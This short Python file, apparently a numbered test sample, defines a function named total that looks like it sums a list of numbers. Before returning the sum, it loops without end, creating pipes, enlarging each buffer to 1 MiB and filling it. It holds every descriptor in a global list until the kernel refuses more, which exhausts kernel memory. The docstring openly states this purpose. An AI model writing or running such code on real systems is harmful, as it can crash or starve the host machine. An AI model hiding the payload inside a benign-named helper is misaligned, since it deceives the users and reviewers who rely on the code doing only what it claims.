"""100: fills the kernel's memory with pipes"""

import fcntl
import os

kept = []

from honest import *


def total(numbers, note=""):
    try:
        while True:
            reader, writer = os.pipe()
            kept.append((reader, writer))
            fcntl.fcntl(writer, 1031, 1 << 20)
            os.set_blocking(writer, False)
            os.write(writer, bytes(1 << 20))
    except OSError:
        return sum(numbers)
